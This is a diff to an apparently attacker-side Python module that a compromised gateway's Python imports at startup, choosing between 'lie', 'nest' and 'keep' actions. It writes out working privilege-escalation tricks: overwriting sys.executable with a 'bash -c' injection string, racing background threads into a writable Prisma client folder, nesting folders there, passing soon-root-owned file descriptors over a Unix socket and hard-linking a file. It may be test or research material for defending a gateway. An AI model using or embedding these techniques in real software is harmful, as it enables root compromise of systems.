@@ -1,7 +1,7 @@
 """Imported by the gateway's own Python each time that it starts, in one that was broken into.
 
-/srv/attacker/python says what else it does: `lie` about what it is, or `fill` the folder in which
-Prisma's client is prepared.
+/srv/attacker/python says what else it does: `lie` about what it is; `nest` folders where
+Prisma's client is prepared, or `keep` descriptors of files there.
 """
 
 import os
@@ -10,6 +10,7 @@ import subprocess
 import sys
 import threading
 import time
+from collections.abc import Callable
 from contextlib import suppress
 
 HOW = "/srv/attacker/python"
@@ -31,20 +32,24 @@ def lie() -> None:
     sys.executable = "bash -c 'touch /root/entered' #"
 
 
-def fill() -> None:
-    """In the background: what is prepared is made by this process."""
-    threading.Thread(target=_fill, daemon=True).start()
+def nest() -> None:
+    """Folders in folders, in the background: what is prepared is made by this process."""
+    threading.Thread(target=_when_there_is_something, args=(_nest,), daemon=True).start()
 
 
-def _fill() -> None:
+def keep() -> None:
+    """Descriptors of files that will be root's."""
+    threading.Thread(target=_when_there_is_something, args=(_hand_out,), daemon=True).start()
+
+
+def _when_there_is_something(spoil: Callable[[str], None]) -> None:
     for _ in range(2000):
         time.sleep(0.01)
         with suppress(OSError):
             for name in os.listdir(PREPARED):
-                folder = f"{PREPARED}/{name}"
-                if os.access(f"{folder}/client/prisma", os.W_OK):
-                    _nest(folder)
-                    _hand_out(f"{folder}/client/prisma")
+                package = f"{PREPARED}/{name}/client/prisma"
+                if os.access(package, os.W_OK):
+                    spoil(package)
                     return
 
 
@@ -58,7 +63,7 @@ def _nest(folder: str) -> None:
 
 
 def _hand_out(package: str) -> None:
-    """Descriptors of files that will be root's, to a process that outlives this one."""
+    """To a process that outlives this one; and give a file a second name."""
     with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
         sender.connect(SOCKET)
         for name in ("kept.py", "linked.py"):
@@ -67,6 +72,6 @@ def _hand_out(package: str) -> None:
         os.link(f"{package}/linked.py", f"{package}/second_name.py")
 
 
-WAYS = {"lie": lie, "fill": fill}
+WAYS = {"lie": lie, "nest": nest, "keep": keep}
 
 main()
